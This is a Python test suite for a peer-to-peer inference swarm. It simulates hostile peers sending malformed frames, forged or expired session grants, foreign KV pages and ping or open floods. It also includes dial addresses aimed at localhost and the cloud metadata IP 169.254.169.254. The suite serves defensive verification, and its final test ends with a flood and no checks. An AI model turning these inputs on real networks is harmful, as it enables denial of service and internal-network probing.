"""What a hostile peer may send: its stream is closed and counted, and nothing else happens."""

import asyncio
import json
import math
import struct
from collections import Counter
from collections.abc import AsyncIterator, Awaitable, Callable, Sequence
from contextlib import AsyncExitStack, asynccontextmanager
from dataclasses import replace
from itertools import product
from pathlib import Path
from typing import Any
from unittest.mock import AsyncMock

import msgspec
import pytest
import torch

from client.errors import RequestRefusedError, UnavailableError
from client.session.config import SessionConfig
from client.text.tokenizer import ModelText
from coordinator.policies.admission.config import ADMISSION
from coordinator.policies.admission.rules import headroom
from dht.budget import DIALS, FRAME_BYTES, OPENS, PINGS, ROW_BYTES, Budget
from dht.errors import NetworkError, SwarmError
from dht.identity.grant import NONCE_DIGITS, grant, own_word, session_name
from dht.identity.peer_id import Identity
from dht.messages import codec
from dht.messages.kv import KvCopy, KvPages
from dht.messages.session import (
    ActivationItem,
    Activations,
    FinishReason,
    FramePart,
    Ping,
    Pong,
    Priority,
    Prompt,
    RefusalCode,
    RingToken,
    RingTokens,
    Sampling,
    SessionAccepted,
    SessionClose,
    SessionFailed,
    SessionLeaving,
    SessionOpen,
    SessionRefused,
    Tokens,
    TokensAttach,
)
from dht.messages.types import ModelSpec, RouteStage
from dht.records.directory import Directory
from dht.transport.frame_sender import FrameSender
from dht.transport.interface import HOP_PROTOCOL, SESSION_PROTOCOL, TOKENS_PROTOCOL, Stream
from dht.transport.streams import PIPES
from node.engine.work_item import WorkItem, WorkResult
from node.links.hops import DIALS_REFUSED, Hop, HopReply
from node.sessions.life import Lost, close_of, refused_of
from node.sessions.session_table import Live
from node.stage.config import StageConfig
from node.stage.streams import StreamConfig
from testing.clock import run_virtual
from testing.network import MemoryTransport
from tests.sim.paper_swarm import (
    LAYERS,
    NETWORK,
    SPEC,
    VOCAB,
    PaperPeer,
    PaperSwarm,
    answer_of,
    paper_swarm,
)

pytestmark = pytest.mark.sim

PROMPT = tuple(range(30))
Attack = Callable[[PaperSwarm, MemoryTransport, SessionOpen], Awaitable[None]]


def granted(open_: SessionOpen, client: MemoryTransport) -> SessionOpen:
    """``open_`` as ``client`` signs it."""
    return grant(open_, client.sign, client.now())


def open_for(swarm: PaperSwarm, client: MemoryTransport, **changes: object) -> SessionOpen:
    """A well-formed open over the swarm's peers in order, signed by its client."""
    open_ = SessionOpen(
        session="a" * 32,
        attempt=0,
        client=client.peer_id,
        fingerprint=SPEC.fingerprint,
        route=swarm.route,
        hop=0,
        prompt_tokens=len(PROMPT),
        max_new_tokens=50,
        sampling=Sampling(),
    )
    return granted(replace(open_, **changes), client)  # type: ignore[arg-type]


async def let_in(swarm: PaperSwarm, client: MemoryTransport, **changes: object) -> Stream | None:
    """The stream of a session that the first stage accepts, or None."""
    open_ = open_for(swarm, client, **changes)
    stream = await client.open_stream(swarm.peers[0].peer_id, SESSION_PROTOCOL)
    await codec.send_frame(stream, open_)
    accepted = isinstance((await codec.read_frame(stream)).message, SessionAccepted)
    return stream if accepted else None


async def ended(stream: Stream) -> None:
    """Read until the other side has closed; whatever came before is dropped."""
    async with asyncio.timeout(100):
        while True:
            try:
                await stream.read_exactly(1)
            except NetworkError:
                return


RAW = {
    "garbage": b"\xff" * 64,
    "a frame of 4 GiB": struct.pack("<II", 0xFFFFFFFF, 10),
    "an envelope longer than its frame": struct.pack("<II", 20, 400) + b"x" * 400,
    "an empty envelope": struct.pack("<II", 4, 0),
    "an unknown version": struct.pack("<II", 4 + 8, 8) + bytes([0x93, 99, 0xA4]) + b"ping\x80",
    "an unknown kind": struct.pack("<II", 4 + 7, 7)
    + bytes([0x93, codec.WIRE_VERSION, 0xA3])
    + b"owl\x80",
    "deep nesting": struct.pack("<II", 4 + 5000, 5000) + b"\x91" * 5000,
}


@pytest.mark.parametrize("protocol", [SESSION_PROTOCOL, TOKENS_PROTOCOL, HOP_PROTOCOL])
@pytest.mark.parametrize("raw", RAW.values(), ids=RAW.keys())
@pytest.mark.virtual(limit_s=300)
async def test_malformed_bytes_close_their_stream_alone(protocol: str, raw: bytes) -> None:
    async with paper_swarm((0, 4), (4, 8)) as swarm, swarm.client() as client:
        running = client.begin(PROMPT, max_new_tokens=50)
        pieces = aiter(running)
        tokens = list((await anext(pieces)).token_ids)
        evil = swarm.network.transport()
        target = swarm.peers[0]
        stream = await evil.open_stream(target.peer_id, protocol)
        stream.write(raw)
        await ended(stream)
        assert target.stage.counters["malformed"] == 1
        async for piece in pieces:
            tokens += piece.token_ids
        assert tuple(tokens) == answer_of(PROMPT, 50)
        assert running.answer().failovers == 0


async def foreign_attach(swarm: PaperSwarm, evil: MemoryTransport, open_: SessionOpen) -> None:
    stream = await evil.open_stream(swarm.peers[-1].peer_id, TOKENS_PROTOCOL)
    await codec.send_frame(
        stream, TokensAttach(session=open_.session, attempt=open_.attempt, position=0)
    )
    assert isinstance((await codec.read_frame(stream)).message, SessionFailed)


async def foreign_ring_tokens(swarm: PaperSwarm, evil: MemoryTransport, open_: SessionOpen) -> None:
    stream = await evil.open_stream(swarm.peers[0].peer_id, HOP_PROTOCOL)
    token = RingToken(session=open_.session, attempt=0, position=len(PROMPT) + 1, token_ids=(3,))
    await codec.send_frame(stream, RingTokens(tokens=(token,)))
    await asyncio.sleep(1)
    assert swarm.peers[0].stage.counters["foreign_frames"] == 1


async def foreign_rows(swarm: PaperSwarm, evil: MemoryTransport, open_: SessionOpen) -> None:
    stream = await evil.open_stream(swarm.peers[-1].peer_id, HOP_PROTOCOL)
    item = ActivationItem(session=open_.session, attempt=0, position=len(PROMPT), tokens=1)
    message = Activations(items=(item,), dtype="float32", hidden=1)
    await codec.send_frame(stream, message, struct.pack("<f", 5.0))
    await asyncio.sleep(1)
    assert swarm.peers[-1].stage.counters["foreign_frames"] == 1


async def rows_of_another_length(
    swarm: PaperSwarm, evil: MemoryTransport, open_: SessionOpen
) -> None:
    stream = await evil.open_stream(swarm.peers[-1].peer_id, HOP_PROTOCOL)
    item = ActivationItem(session=open_.session, attempt=0, position=0, tokens=1000)
    message = Activations(items=(item,), dtype="float32", hidden=1)
    await codec.send_frame(stream, message, struct.pack("<f", 5.0))
    await ended(stream)
    assert swarm.peers[-1].stage.counters["malformed"] == 1


async def foreign_close(swarm: PaperSwarm, evil: MemoryTransport, open_: SessionOpen) -> None:
    for peer in swarm.peers:
        stream = await evil.open_stream(peer.peer_id, HOP_PROTOCOL)
        await codec.send_frame(stream, SessionClose(session=open_.session, attempt=0))
    await asyncio.sleep(1)


async def open_in_another_name(
    swarm: PaperSwarm, evil: MemoryTransport, open_: SessionOpen
) -> None:
    stream = await evil.open_stream(swarm.peers[0].peer_id, SESSION_PROTOCOL)
    await codec.send_frame(stream, replace(open_, session="b" * 32))
    await ended(stream)
    assert swarm.peers[0].stage.counters["malformed"] == 1


async def open_past_the_first_stage(
    swarm: PaperSwarm, evil: MemoryTransport, open_: SessionOpen
) -> None:
    stream = await evil.open_stream(swarm.peers[-1].peer_id, HOP_PROTOCOL)
    hop = len(swarm.peers) - 1
    await codec.send_frame(stream, replace(open_, session="c" * 32, hop=hop))
    await ended(stream)
    assert swarm.peers[-1].stage.counters["malformed"] == 1


async def foreign_copy(swarm: PaperSwarm, evil: MemoryTransport, open_: SessionOpen) -> None:
    """A stranger wants a session's KV for itself."""
    await evil.serve(HOP_PROTOCOL, ended)
    stream = await evil.open_stream(swarm.peers[0].peer_id, SESSION_PROTOCOL)
    await codec.send_frame(stream, KvCopy(session=open_.session, attempt=5, to=evil.peer_id))
    assert isinstance((await codec.read_frame(stream)).message, SessionRefused)


async def foreign_kv(swarm: PaperSwarm, evil: MemoryTransport, open_: SessionOpen) -> None:
    stream = await evil.open_stream(swarm.peers[-1].peer_id, HOP_PROTOCOL)
    pages = KvPages(session=open_.session, attempt=0, position=0, tokens=1, dtype="float32")
    await codec.send_frame(stream, pages, bytes(8))
    await asyncio.sleep(1)
    assert swarm.peers[-1].stage.counters["stale_kv"] == 1
    assert not swarm.peers[-1].engine.kv_imported


async def refused_over_a_hop(swarm: PaperSwarm, evil: MemoryTransport, open_: SessionOpen) -> str:
    """Why the last stage refuses ``open_``, which comes from the stage before it."""
    target = swarm.peers[-1]
    held = dict(target.engine.kv)
    stream = await evil.open_stream(target.peer_id, HOP_PROTOCOL)
    await codec.send_frame(stream, open_)
    reply = (await codec.read_frame(stream)).message
    assert isinstance(reply, SessionRefused)
    by_clock = "by this peer's clock" in reply.reason
    assert reply.code is (RefusalCode.DRAINING if by_clock else RefusalCode.BAD_REQUEST)
    assert target.engine.kv == held
    return reply.reason


def through(evil: MemoryTransport, open_: SessionOpen) -> SessionOpen:
    """``open_`` with ``evil`` as its first stage, as that one would pass it on."""
    first = replace(open_.route[0], peer_id=evil.peer_id)
    return replace(open_, route=(first, *open_.route[1:]), hop=1)


async def opens_in_a_clients_name(
    swarm: PaperSwarm, evil: MemoryTransport, open_: SessionOpen
) -> None:
    """A stage that no client asked fills the next one with sessions."""
    for number in range(40):
        forged = through(evil, replace(open_, session=f"{number:032d}"))
        for signed in (replace(forged, grant=b""), forged, granted(forged, evil)):
            assert "not signed by its client" in await refused_over_a_hop(swarm, evil, signed)
    assert swarm.peers[-1].stage.counters["ungranted"] == 120


async def takes_a_session_over(
    swarm: PaperSwarm, evil: MemoryTransport, open_: SessionOpen
) -> None:
    """A stage that was thrown off knows the grant, and wants the session's tokens, or its KV."""
    later = through(evil, replace(open_, attempt=1 << 20))
    for changed in (
        later,
        replace(later, prompt_tokens=open_.prompt_tokens + 5, answered=5),
        replace(later, migrate_until=1, copy_from=swarm.peers[-1].peer_id),
    ):
        assert "not signed by its client" in await refused_over_a_hop(swarm, evil, changed)


async def repeats_a_grant_that_expired(
    swarm: PaperSwarm, evil: MemoryTransport, open_: SessionOpen
) -> None:
    client = swarm.network.transport()
    asked = replace(through(evil, open_), session="d" * 32, client=client.peer_id)
    for at_unix_s, said in (
        (client.now() - 1000, "expired 880 s ago"),
        (client.now() + 1e6, "too long"),
    ):
        signed = replace(grant(asked, client.sign, at_unix_s), hop=1)
        assert said in await refused_over_a_hop(swarm, evil, signed)


ATTACKS: list[Attack] = [
    opens_in_a_clients_name,
    takes_a_session_over,
    repeats_a_grant_that_expired,
    foreign_copy,
    foreign_kv,
    foreign_attach,
    foreign_ring_tokens,
    foreign_rows,
    rows_of_another_length,
    foreign_close,
    open_in_another_name,
    open_past_the_first_stage,
]


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack.__name__)
@pytest.mark.virtual(limit_s=300)
async def test_a_strangers_frames_do_not_touch_a_session(attack: Attack) -> None:
    async with paper_swarm((0, 4), (4, 8)) as swarm:
        client = swarm.network.transport()
        open_ = open_for(swarm, client)
        first = await client.open_stream(swarm.peers[0].peer_id, SESSION_PROTOCOL)
        await codec.send_frame(first, open_)
        assert isinstance((await codec.read_frame(first)).message, SessionAccepted)
        await attack(swarm, swarm.network.transport(), open_)
        await codec.send_frame(
            first, Prompt(session=open_.session, attempt=0, position=0, token_ids=PROMPT)
        )
        last = await client.open_stream(swarm.peers[-1].peer_id, TOKENS_PROTOCOL)
        await codec.send_frame(
            last, TokensAttach(session=open_.session, attempt=0, position=len(PROMPT))
        )
        tokens: list[int] = []
        while len(tokens) < 50:
            async with asyncio.timeout(60):
                tokens += (await codec.read_frame(last)).message.token_ids
        assert tuple(tokens) == answer_of(PROMPT, 50)


@pytest.mark.virtual(limit_s=300)
async def test_a_client_has_an_attempts_tokens_sent_again_a_few_times_alone() -> None:
    """An attach of some bytes has all tokens and scores sent from where it says, on any number of
    streams: megabytes each that waited here for who read none, and uploads without end."""
    async with paper_swarm((0, 4), (4, 8)) as swarm:
        evil, last = swarm.network.transport(), swarm.peers[-1]
        open_ = open_for(swarm, evil)
        first = await evil.open_stream(swarm.peers[0].peer_id, SESSION_PROTOCOL)
        await codec.send_frame(first, open_)
        assert isinstance((await codec.read_frame(first)).message, SessionAccepted)
        attach = TokensAttach(session=open_.session, attempt=0, position=len(PROMPT))
        streams = []
        for _ in range(StageConfig().attaches_max + 2):
            streams.append(await evil.open_stream(last.peer_id, TOKENS_PROTOCOL))
            await codec.send_frame(streams[-1], attach)
        for stream in streams[-2:]:
            assert isinstance((await codec.read_frame(stream)).message, SessionFailed)
        assert last.stage.counters["attached_too_often"] == 2
        prompt = Prompt(session=open_.session, attempt=0, position=0, token_ids=PROMPT)
        await codec.send_frame(first, prompt)
        assert isinstance((await codec.read_frame(streams[-3])).message, Tokens)


@pytest.mark.parametrize(
    "changes",
    [
        {"max_new_tokens": 10_000},
        {"fingerprint": "others"},
        {"route": ()},
        {"model": "loop"},
        {"model": "gap"},
    ],
)
@pytest.mark.virtual(limit_s=300)
async def test_absurd_opens_are_refused_and_hold_nothing(changes: dict[str, object]) -> None:
    async with paper_swarm((0, 4), (4, 8)) as swarm:
        evil = swarm.network.transport()
        open_ = open_for(swarm, evil)
        one, two = open_.route
        match changes.get("model"):
            case "loop":
                open_ = replace(open_, route=(one, one))
            case "gap":
                open_ = replace(open_, route=(one, replace(two, start=5, end=LAYERS)))
            case _:
                open_ = replace(open_, **changes)  # type: ignore[arg-type]
        open_ = granted(open_, evil)
        stream = await evil.open_stream(swarm.peers[0].peer_id, SESSION_PROTOCOL)
        await codec.send_frame(stream, open_)
        try:
            reply = (await codec.read_frame(stream)).message
            assert isinstance(reply, SessionRefused)
        except NetworkError:
            assert swarm.peers[0].stage.counters["malformed"] == 1
        assert not any(peer.engine.kv for peer in swarm.peers)


@pytest.mark.virtual(limit_s=300)
async def test_one_client_cannot_take_every_place() -> None:
    at_once = ADMISSION.untried_sessions
    async with paper_swarm() as swarm:
        await swarm.add(0, 8, sessions_per_client_max=2 * at_once)
        evil = swarm.network.transport()
        for crowd, accepted in enumerate((at_once, at_once, 0)):
            await asyncio.sleep(ADMISSION.untried_s if crowd == 1 else 0.0)
            streams = [
                await let_in(swarm, evil, session=f"{crowd}{number:031d}", max_new_tokens=1)
                for number in range(40)
            ]
            assert sum(stream is not None for stream in streams) == accepted
        assert swarm.peers[0].stage.counters["refused_too_many"] == 120 - 2 * at_once
        async with swarm.client() as client:
            answer = await client.generate(PROMPT, max_new_tokens=5)
        assert answer.token_ids == answer_of(PROMPT, 5)


CLAIMS: dict[str, dict[str, object]] = {
    "high priority": {"priority": Priority.HIGH},
    "an answer begun": {"answered": 1},
}


@pytest.mark.parametrize("claim", CLAIMS)
@pytest.mark.virtual(limit_s=300)
async def test_a_crowd_with_one_claim_leaves_headroom_to_the_other(claim: str) -> None:
    async with paper_swarm() as swarm:
        target = await swarm.add(0, LAYERS, kv_tokens=5_000)  # a few large sessions fill it

        async def ask(**changes: object) -> bool:
            """Whether one more client, which nobody knows, gets a session."""
            client = swarm.network.transport()
            open_ = open_for(swarm, client, session=client.peer_id[-32:], **changes)
            stream = await client.open_stream(target.peer_id, SESSION_PROTOCOL)
            await codec.send_frame(stream, open_)
            return isinstance((await codec.read_frame(stream)).message, SessionAccepted)

        capacity = target.stage.kv_tokens_free
        while await ask(prompt_tokens=400, max_new_tokens=100):
            pass
        while await ask():
            pass
        free = target.stage.kv_tokens_free
        assert free >= 0.1 * capacity
        taken = [await ask(**CLAIMS[claim]) for _ in range(100)]
        assert 0 < sum(taken) < 12
        assert free - target.stage.kv_tokens_free <= 0.075 * capacity + len(PROMPT) + 50
        (other,) = set(CLAIMS) - {claim}
        assert await ask(**CLAIMS[other])


@pytest.mark.virtual(limit_s=300)
async def test_a_crowd_that_claims_high_priority_is_not_all_run_first() -> None:
    """There is room for all, so that claims decide on the order of work alone."""
    async with paper_swarm((0, LAYERS)) as swarm:
        target = swarm.peers[0]
        most = int(ADMISSION.claim_share * headroom(StageConfig().sessions_max))

        async def ask(client: MemoryTransport, number: int, **changes: object) -> None:
            stream = await client.open_stream(target.peer_id, SESSION_PROTOCOL)
            session = f"{client.peer_id[-20:]}{number:012d}"
            open_ = open_for(swarm, client, session=session, max_new_tokens=1, **changes)
            await codec.send_frame(stream, open_)
            assert isinstance((await codec.read_frame(stream)).message, SessionAccepted)

        for crowd in range(1, 16):
            evil = swarm.network.transport()
            for number in range(6):
                begun = {"answered": 1} if number % 2 else {}  # the other claim is no way round
                await ask(evil, number, priority=Priority.HIGH, **begun)
            first = sum(live.session.urgent for live in target.stage.shell.table)
            assert first == min(4 * crowd, most)
            await asyncio.sleep(3.0)  # newcomers that did nothing yet are few at a time


@pytest.mark.virtual(limit_s=300)
async def test_a_crowd_that_sends_no_prompts_keeps_others_out_for_some_seconds_alone() -> None:
    """Each of them has one session, so that none gives way for having more than others."""
    async with paper_swarm((0, LAYERS)) as swarm:

        async def newcomer() -> bool:
            client = swarm.network.transport()
            return await let_in(swarm, client, session=client.peer_id[-32:]) is not None

        assert all([await newcomer() for _ in range(ADMISSION.untried_sessions)])
        assert not await newcomer(), "there is KV, but a crowd came that shows no cost yet"
        await asyncio.sleep(ADMISSION.untried_s)
        assert await newcomer()


@pytest.mark.virtual(limit_s=300)
async def test_a_crowd_that_sends_its_prompts_token_by_token_keeps_nobody_out_for_long() -> None:
    """Each has an identity of its own, and its session never rests."""
    async with paper_swarm() as swarm:
        for span in ((0, 4), (4, LAYERS)):
            await swarm.add(*span, kv_tokens=100_000, step_s=0.001)

        async def drip(number: int) -> None:
            evil = swarm.network.transport()
            await asyncio.sleep(number / ADMISSION.untried_sessions)
            session = evil.peer_id[-32:]
            stream = await let_in(swarm, evil, session=session, prompt_tokens=400)
            assert stream is not None
            for position in range(400):
                ids = (position,)
                await codec.send_frame(
                    stream,
                    Prompt(session=session, attempt=0, position=position, token_ids=ids),
                )
                await asyncio.sleep(0.2 * ADMISSION.untried_s)

        async with asyncio.TaskGroup() as attack:
            tasks = [
                attack.create_task(drip(number)) for number in range(ADMISSION.untried_sessions)
            ]
            await asyncio.sleep(1.0)
            assert await let_in(swarm, swarm.network.transport()) is None
            await asyncio.sleep(ADMISSION.untried_s)
            async with swarm.client(wait_s=0) as client:
                answer = await client.generate(PROMPT, max_new_tokens=5)
            assert answer.token_ids == answer_of(PROMPT, 5)
            for task in tasks:
                assert task.cancel(), "the attack went on until now"


@pytest.mark.virtual(limit_s=300)
async def test_clients_with_many_long_prompts_keep_out_themselves_before_others() -> None:
    async with paper_swarm() as swarm:
        for span in ((0, 4), (4, LAYERS)):
            await swarm.add(*span, kv_tokens=100_000, step_s=0.1)
        ids = tuple(at % VOCAB for at in range(400))
        evil = [swarm.network.transport() for _ in range(2)]
        streams = []
        for number in range(2 * ADMISSION.untried_sessions):
            session = f"{number:032d}"
            client = evil[number % 2]
            stream = await let_in(swarm, client, session=session, prompt_tokens=400)
            if stream is not None:
                prompt = Prompt(session=session, attempt=0, position=0, token_ids=ids)
                await codec.send_frame(stream, prompt)
                streams.append(stream)
        assert len(streams) == ADMISSION.untried_sessions, "more would make these wait"
        async with swarm.client(wait_s=0) as client:
            answer = await client.generate(PROMPT, max_new_tokens=5)
        assert answer.token_ids == answer_of(PROMPT, 5)
        assert swarm.peers[0].stage.counters["crowd_gave_way"] == 0


def target_of(swarm: PaperSwarm, found: str) -> str:
    """A peer that no hop opens to, for the reason ``found``."""
    target = swarm.network.transport()
    if found == "gone":
        swarm.network.kill(target.peer_id)
    elif found == "silent":
        swarm.network.freeze(target.peer_id)
    return target.peer_id


FOUND = ("gone", "silent", "another protocol")


@pytest.mark.parametrize("found", FOUND)
@pytest.mark.virtual(limit_s=300)
async def test_an_open_does_not_tell_what_was_found_at_an_address(found: str) -> None:
    async with paper_swarm((0, 4)) as swarm:
        evil = swarm.network.transport()
        target = target_of(swarm, found)
        open_ = open_for(swarm, evil)
        route = (*open_.route, RouteStage(peer_id=target, start=4, end=LAYERS))
        stream = await evil.open_stream(swarm.peers[0].peer_id, SESSION_PROTOCOL)
        open_ = granted(replace(open_, route=route), evil)
        await codec.send_frame(stream, open_)
        reply = (await codec.read_frame(stream)).message
        assert isinstance(reply, SessionRefused)
        assert (reply.peer_id, reply.reason) == (target, "cannot be reached")


@pytest.mark.parametrize("found", FOUND)
@pytest.mark.virtual(limit_s=300)
async def test_a_copy_does_not_tell_what_was_found_at_an_address(found: str) -> None:
    async with paper_swarm((0, LAYERS)) as swarm:
        evil = swarm.network.transport()
        target = target_of(swarm, found)
        open_ = open_for(swarm, evil)
        first = await evil.open_stream(swarm.peers[0].peer_id, SESSION_PROTOCOL)
        await codec.send_frame(first, open_)
        assert isinstance((await codec.read_frame(first)).message, SessionAccepted)
        asked = await evil.open_stream(swarm.peers[0].peer_id, SESSION_PROTOCOL)
        await codec.send_frame(asked, KvCopy(session=open_.session, attempt=1, to=target))
        reply = (await codec.read_frame(asked)).message
        assert isinstance(reply, SessionRefused)
        assert reply.reason == "the new stage was lost: cannot be reached"


Dials = list[tuple[str, tuple[str, ...]]]


def dials_of(peer: PaperPeer, monkeypatch: pytest.MonkeyPatch) -> Dials:
    """The peers that ``peer`` opens hops to from now on, each with the addresses dialled."""
    dials: Dials = []
    really = peer.transport.open_stream

    async def open_stream(
        peer_id: str, protocol: str, *, addresses: tuple[str, ...] = ()
    ) -> Stream:
        if protocol == HOP_PROTOCOL:
            dials.append((peer_id, addresses))
        return await really(peer_id, protocol, addresses=addresses)

    monkeypatch.setattr(peer.transport, "open_stream", open_stream)
    return dials


def with_addresses(message: SessionOpen | KvCopy, addresses: object) -> bytes:
    """The frame of a message in which a client names addresses."""
    version, kind, fields = msgspec.msgpack.decode(codec.encode(message))
    envelope = msgspec.msgpack.encode((version, kind, {**fields, "addresses": addresses}))
    return struct.pack("<II", 4 + len(envelope), len(envelope)) + envelope


FOREIGN = (
    "/ip4/127.0.0.1/tcp/8080",
    "/ip4/169.254.169.254/tcp/80",
    "/dns4/example.org/tcp/443",
    "/ip4/192.0.2.1/udp/443/quic-v1",
)


@pytest.mark.virtual(limit_s=300)
async def test_who_names_a_peer_does_not_say_where_it_is_dialled(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    async with paper_swarm((0, 4), (4, 8), (4, 8)) as swarm:
        first, second, third = swarm.peers
        dials = dials_of(first, monkeypatch)
        evil = swarm.network.transport()
        open_ = open_for(swarm, evil, route=())
        route = tuple(
            RouteStage(peer_id=p.peer_id, start=p.engine.span[0], end=p.engine.span[1])
            for p in (first, second)
        )
        open_ = granted(replace(open_, route=route), evil)
        lies = [[f"{each}/p2p/{p.peer_id}" for each in FOREIGN] for p in (first, second)]
        stream = await evil.open_stream(first.peer_id, SESSION_PROTOCOL)
        stream.write(with_addresses(open_, lies))
        assert isinstance((await codec.read_frame(stream)).message, SessionAccepted)
        assert dials == [(second.peer_id, second.transport.addresses)]
        dials.clear()
        order = KvCopy(session=open_.session, attempt=1, to=third.peer_id)
        asked = await evil.open_stream(first.peer_id, SESSION_PROTOCOL)
        asked.write(with_addresses(order, [f"{each}/p2p/{third.peer_id}" for each in FOREIGN]))
        await codec.read_frame(asked)
        assert dials == [(third.peer_id, third.transport.addresses)]


@pytest.mark.parametrize("clients", [1, 40])
@pytest.mark.virtual(limit_s=600)
async def test_who_names_many_peers_has_few_dialled(
    clients: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A stage is sent from one peer that nobody reaches to the next, by one client or by many."""
    asked = 200

    async def opened(swarm: PaperSwarm, evil: MemoryTransport, number: int) -> str:
        open_ = open_for(swarm, evil, session=f"{number:032d}")
        away = Identity(number.to_bytes(32, "big")).peer_id
        route = (open_.route[0], RouteStage(peer_id=away, start=4, end=LAYERS))
        stream = await evil.open_stream(swarm.peers[0].peer_id, SESSION_PROTOCOL)
        await codec.send_frame(stream, granted(replace(open_, route=route), evil))
        reply = (await codec.read_frame(stream)).message
        assert isinstance(reply, SessionRefused)
        await stream.close()
        return reply.reason

    async with paper_swarm((0, 4), (4, 8)) as swarm, swarm.client() as client:
        assert (await client.generate(PROMPT, max_new_tokens=5)).failovers == 0
        await asyncio.sleep(10)  # that dial is forgotten
        first = swarm.peers[0]
        dials = dials_of(first, monkeypatch)
        strangers = [swarm.network.transport() for _ in range(clients)]
        began_s = asyncio.get_running_loop().time()
        said = [await opened(swarm, strangers[number % clients], number) for number in range(asked)]
        took_s = asyncio.get_running_loop().time() - began_s
        burst, per_s = (
            (DIALS.burst, DIALS.per_s) if clients == 1 else (DIALS.all_burst, DIALS.all_per_s)
        )
        assert burst <= len(dials) <= burst + per_s * took_s < asked / 2
        assert Counter(said) == {
            "cannot be reached": len(dials),
            DIALS_REFUSED: asked - len(dials),
        }
        assert first.stage.counters["dials_refused"] == asked - len(dials)
        assert not first.engine.kv
        # Whom this stage reached before it still reaches, for anybody.
        await asyncio.sleep(2 * 30.0)  # idle hops are closed
        dials.clear()
        noise = [
            asyncio.create_task(opened(swarm, strangers[n % clients], asked + n))
            for n in range(asked)
        ]
        await asyncio.sleep(0)
        answer = await client.generate(PROMPT, max_new_tokens=5)
        assert answer.token_ids == answer_of(PROMPT, 5)
        assert answer.failovers == 0
        assert swarm.peers[1].peer_id in dict(dials)
        await asyncio.gather(*noise)


@pytest.mark.virtual(limit_s=300)
async def test_a_client_has_few_peers_dialled_for_copies(monkeypatch: pytest.MonkeyPatch) -> None:
    async with paper_swarm((0, LAYERS)) as swarm:
        first, evil = swarm.peers[0], swarm.network.transport()
        dials = dials_of(first, monkeypatch)
        open_ = open_for(swarm, evil)
        stream = await evil.open_stream(first.peer_id, SESSION_PROTOCOL)
        await codec.send_frame(stream, open_)
        assert isinstance((await codec.read_frame(stream)).message, SessionAccepted)
        said = Counter[str]()
        for number in range(1, 41):
            away = Identity(number.to_bytes(32, "big")).peer_id
            order = KvCopy(session=open_.session, attempt=number, to=away)
            asked = await evil.open_stream(first.peer_id, SESSION_PROTOCOL)
            await codec.send_frame(asked, order)
            said[(await codec.read_frame(asked)).message.reason] += 1
            await asked.close()
        assert len(dials) == DIALS.burst
        assert said[DIALS_REFUSED] == 40 - len(dials)


@pytest.mark.virtual(limit_s=300)
async def test_sessions_that_are_opened_and_rest_keep_nobody_out() -> None:
    """Strangers with an identity each fill all KV, and send no prompt."""
    async with AsyncExitStack() as stack:
        swarm = await stack.enter_async_context(paper_swarm())
        for span in ((0, 4), (4, LAYERS)):
            await swarm.add(*span, kv_tokens=200)
        client = await stack.enter_async_context(swarm.client(wait_s=0))
        counters = swarm.peers[0].stage.counters
        refused: list[str] = []
        number = 0
        while not refused:
            number += 1
            evil = swarm.network.transport()
            stream = await evil.open_stream(swarm.peers[0].peer_id, SESSION_PROTOCOL)
            await codec.send_frame(stream, open_for(swarm, evil, session=f"{number:032d}"))
            reply = (await codec.read_frame(stream)).message
            if isinstance(reply, SessionRefused):
                refused.append(reply.reason)
                assert 0 < reply.retry_after_s <= ADMISSION.rest_s
        assert counters["rested"] == 0
        with pytest.raises(UnavailableError, match="full"):
            await client.generate(PROMPT, max_new_tokens=50)
        await asyncio.sleep(ADMISSION.rest_s)
        answer = await client.generate(PROMPT, max_new_tokens=50)
        assert answer.token_ids == answer_of(PROMPT, 50)
        assert 0 < counters["rested"] < number - 1, "no more than it takes"


async def attached(swarm: PaperSwarm, evil: MemoryTransport, protocol: str) -> Stream:
    """A stream whose other side reads on: opened, and past its first frame."""
    target = swarm.peers[0].peer_id
    stream = await evil.open_stream(target, protocol)
    if protocol == SESSION_PROTOCOL:
        await codec.send_frame(stream, open_for(swarm, evil))
    return stream


async def ping_on(stream: Stream, count: int) -> None:
    """Pings as fast as they are taken; no answer is read."""
    pings = codec.encode_frame(Ping(nonce=1)) * 1000
    for _ in range(count // 1000):
        stream.write(pings)
        async with asyncio.timeout(60):
            await stream.drain()


@pytest.mark.parametrize("protocol", [SESSION_PROTOCOL, HOP_PROTOCOL])
@pytest.mark.virtual(limit_s=600)
async def test_who_reads_no_answers_is_not_listened_to(protocol: str) -> None:
    budget = Budget(replace(PINGS, per_s=math.inf, burst=math.inf))
    async with (
        paper_swarm((0, 4), (4, 8), budget=budget) as swarm,
        swarm.client() as client,
    ):
        stream = await attached(swarm, swarm.network.transport(), protocol)
        begun_s = asyncio.get_running_loop().time()
        with pytest.raises(NetworkError):
            await ping_on(stream, 400_000)  # each answered: 20 MB
        assert asyncio.get_running_loop().time() - begun_s >= 20, "a slow reader has its time"
        answer = await client.generate(PROMPT, max_new_tokens=8)
        assert answer.token_ids == answer_of(PROMPT, 8)


@pytest.mark.parametrize("protocol", [SESSION_PROTOCOL, HOP_PROTOCOL])
def test_a_flood_of_pings_is_read_slowly(protocol: str) -> None:
    async def scenario() -> None:
        async with paper_swarm((0, 4), (4, 8)) as swarm, swarm.client() as client:
            stream = await attached(swarm, swarm.network.transport(), protocol)
            stream.write(codec.encode_frame(Ping(nonce=1)) * 20 * int(PINGS.burst))
            answered = 0

            async def count() -> None:
                nonlocal answered
                while True:
                    frame = await codec.read_frame(stream)
                    answered += isinstance(frame.message, Pong)

            counting = asyncio.create_task(count())
            await asyncio.sleep(60)
            assert PINGS.burst <= answered <= PINGS.burst + 61 * PINGS.per_s
            answer = await client.generate(PROMPT, max_new_tokens=8)
            assert answer.token_ids == answer_of(PROMPT, 8)
            counting.cancel()
            await asyncio.gather(counting, return_exceptions=True)

    run_virtual(scenario(), limit_s=600)


@pytest.mark.virtual(limit_s=600)
async def test_a_flood_of_opens_is_read_slowly() -> None:
    """Each takes the check of a signature, and another one for the refusal."""
    budget = Budget(replace(OPENS, per_s=1.0, burst=10.0))
    async with paper_swarm((0, 4), (4, 8), budget=budget) as swarm, swarm.client() as client:
        evil = swarm.network.transport()
        stream = await attached(swarm, evil, HOP_PROTOCOL)
        here = RouteStage(peer_id=swarm.peers[0].peer_id, start=4, end=8)
        route = (RouteStage(peer_id=evil.peer_id, start=0, end=4), here)
        open_ = open_for(swarm, evil, route=route, hop=1, fingerprint="f" * 64)
        stream.write(codec.encode_frame(open_) * 1000)
